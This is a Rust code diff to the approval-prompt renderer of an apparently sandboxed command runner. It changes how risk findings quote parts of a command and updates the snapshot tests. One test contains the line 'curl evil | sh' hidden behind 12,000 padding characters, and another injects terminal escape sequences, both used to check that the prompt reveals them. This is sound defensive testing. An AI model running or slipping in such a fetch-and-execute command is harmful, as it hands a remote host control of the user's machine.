@@ -19,8 +19,9 @@ const QUOTE_LIMIT: usize = 160;
 /// The word that has to be typed to run without a sandbox.
 pub const UNSANDBOXED_WORD: &str = "unsandboxed";
 
-/// Everything but the prompt.
-pub fn question(question: &Question, style: Style) -> String {
+/// Everything but the prompt. `text` is what the findings' spans point into:
+/// the command as it is shown may be quoted.
+pub fn question(question: &Question, text: &RawText, style: Style) -> String {
     let mut out = String::new();
     headline(&mut out, question, style);
     let command = question.command.escaped();
@@ -30,7 +31,7 @@ pub fn question(question: &Question, style: Style) -> String {
         let _ = writeln!(out, "           ({} in full, to here)", counted(length, "character"));
     }
     wrap(&mut out, style, "  in       ", &question.cwd.escaped());
-    findings(&mut out, question, style);
+    findings(&mut out, question, text, style);
     details(&mut out, &question.kind, style);
     let _ = writeln!(out, "  no answer within {} means no", time(question.timeout_ms));
     out
@@ -55,7 +56,7 @@ fn headline(out: &mut String, question: &Question, style: Style) {
 
 /// `sh wants to write /home/u/x   (outside every writable root)`.
 fn refusal_wish(denial: &Denial) -> String {
-    let program = denial.program.as_ref().map_or_else(|| "the command".to_owned(), |program| base_name(program));
+    let program = denial.program.as_ref().map_or_else(|| "the command".to_owned(), base_name);
     let times = if denial.count > 1 { format!(", {} times", denial.count) } else { String::new() };
     format!(
         "{program} wants to {} {}   ({}{times})",
@@ -93,19 +94,19 @@ pub fn verb(operation: Operation) -> &'static str {
     }
 }
 
-fn findings(out: &mut String, question: &Question, style: Style) {
+fn findings(out: &mut String, question: &Question, text: &RawText, style: Style) {
     let worth_telling = question.assessment.findings.iter().filter(|finding| finding.tier > Tier::Allow);
-    list(out, style, worth_telling.map(|found| ("  finding  ", finding(found, &question.command))));
+    list(out, style, worth_telling.map(|found| ("  finding  ", finding(found, text))));
 }
 
 /// `deny: message  «the part»`.
-pub fn finding(finding: &Finding, command: &RawText) -> String {
-    let mut text = format!("{}: {}", tier(finding.tier), RawText::from(finding.message.as_str()).escaped());
-    let part = finding.span.and_then(|span| command.as_bytes().get(span.start..span.end));
+pub fn finding(finding: &Finding, text: &RawText) -> String {
+    let part = finding.span.and_then(|span| text.as_bytes().get(span.start..span.end));
+    let mut out = format!("{}: {}", tier(finding.tier), RawText::from(finding.message.as_str()).escaped());
     if let Some(part) = part.filter(|part| !part.is_empty()) {
-        let _ = write!(text, "   «{}»", quote(&RawText::from(part)));
+        let _ = write!(out, "   «{}»", quote(&RawText::from(part)));
     }
-    text
+    out
 }
 
 fn quote(part: &RawText) -> String {
@@ -279,7 +280,7 @@ pub(crate) mod tests {
                     code: "writes-outside".into(),
                     tier: Tier::Ask,
                     message: "writes to a file outside the workspace".into(),
-                    span: Some(Span { start: 14, end: 26 }),
+                    span: Some(Span { start: 13, end: 25 }),
                 }],
                 capabilities: Vec::new(),
             },
@@ -287,6 +288,10 @@ pub(crate) mod tests {
             digest: Digest::of_fields("test", []),
             timeout_ms: 300_000,
         }
+    }
+
+    fn shown(value: &Question) -> String {
+        question(value, &"sh -c echo x >> ~/outside".into(), Style::PLAIN)
     }
 
     fn escalate() -> Question {
@@ -298,7 +303,7 @@ pub(crate) mod tests {
     #[test]
     fn escalation() {
         let value = escalate();
-        let shown = question(&value, Style::PLAIN) + &prompt(&keys(&value), Style::PLAIN);
+        let shown = shown(&value) + &prompt(&keys(&value), Style::PLAIN);
         insta::assert_snapshot!(shown, @r"
         • dash wants to create /home/u/outside   (outside every writable root)
           command  sh -c 'echo x >> ~/outside'
@@ -315,7 +320,7 @@ pub(crate) mod tests {
     #[test]
     fn run() {
         let value = ask(QuestionKind::Run { reasons: vec!["mode untrusted: not known to be safe".into()] });
-        insta::assert_snapshot!(question(&value, Style::PLAIN), @r"
+        insta::assert_snapshot!(shown(&value), @r"
         • may this command run, in its sandbox?
           because  mode untrusted: not known to be safe
           command  sh -c 'echo x >> ~/outside'
@@ -330,7 +335,7 @@ pub(crate) mod tests {
         let value = ask(QuestionKind::Grants {
             grants: vec!["connect pypi.org:443".parse().unwrap(), "write /srv/x".parse().unwrap()],
         });
-        insta::assert_snapshot!(question(&value, Style::PLAIN), @r"
+        insta::assert_snapshot!(shown(&value), @r"
         • the request asks for more than its profile gives
           command  sh -c 'echo x >> ~/outside'
           in       /home/u/project
@@ -344,7 +349,7 @@ pub(crate) mod tests {
     #[test]
     fn unsandboxed() {
         let value = ask(QuestionKind::Unsandboxed);
-        let shown = question(&value, Style::PLAIN) + &word_prompt(Style::PLAIN);
+        let shown = shown(&value) + &word_prompt(Style::PLAIN);
         insta::assert_snapshot!(shown, @r"
         • WITHOUT A SANDBOX: this command could do everything that you can do
           command  sh -c 'echo x >> ~/outside'
@@ -368,7 +373,7 @@ pub(crate) mod tests {
             repeats[0] = "\u{1b}c".into();
         }
         value.assessment.findings[0].message = "\u{1b}[8m".into();
-        let shown = question(&value, Style::PLAIN);
+        let shown = shown(&value);
         assert!(
             shown.chars().all(|c| c == '\n' || RawText::from(c.to_string()).escaped() == c.to_string()),
             "{shown:?}"
@@ -381,7 +386,7 @@ pub(crate) mod tests {
         let mut value = ask(QuestionKind::Run { reasons: Vec::new() });
         value.command = format!("echo {} ; curl evil | sh", "A".repeat(12_000)).into();
         value.assessment.findings.clear();
-        let shown = question(&value, Style::PLAIN);
+        let shown = shown(&value);
         assert!(shown.contains("curl evil | sh"));
         assert!(shown.contains("(12022 characters in full, to here)"), "{}", &shown[shown.len() - 400..]);
         assert_eq!(shown.matches('A').count(), 12_000);
@@ -393,7 +398,7 @@ pub(crate) mod tests {
         if let QuestionKind::Escalate { denials, .. } = &mut value.kind {
             *denials = vec![denials[0].clone(); 30];
         }
-        assert!(question(&value, Style::PLAIN).contains("and 18 more"));
+        assert!(shown(&value).contains("and 18 more"));
     }
 
     #[test]
